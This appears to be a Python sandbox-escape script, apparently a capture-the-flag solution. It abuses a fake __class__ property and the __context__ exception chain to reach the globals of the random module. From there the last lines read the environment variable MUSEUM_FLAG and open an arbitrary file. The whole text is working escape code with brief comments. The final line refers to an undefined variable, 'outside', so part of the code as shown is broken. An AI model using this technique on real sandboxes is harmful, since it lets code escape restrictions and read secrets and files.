# Whoever raises an exception while another one is being handled gets that one with it: a handler
# of the library is at work, and its exception is ours to look at.
import random
from operator import attrgetter

found = []


class Weights:
    # Nothing to iterate over: random.choices gets a TypeError, and catches it. In its handler it
    # asks isinstance(weights, int), and isinstance asks for this.
    @property
    def __class__(self):
        try:
            raise ValueError
        except ValueError as error:
            # Raised and caught right here, and yet it has a context: the library's TypeError,
            # whose traceback so far has one entry, the frame of choices.
            found.append(attrgetter("__context__.__traceback__.tb_frame")(error))
        return object


try:
    random.choices("a", Weights())
except TypeError:
    pass

names = attrgetter("f_globals")(found[0])
print(names["_os"].environ["MUSEUM_FLAG"])
print(names["__builtins__"]["open"](outside["file"]).read())
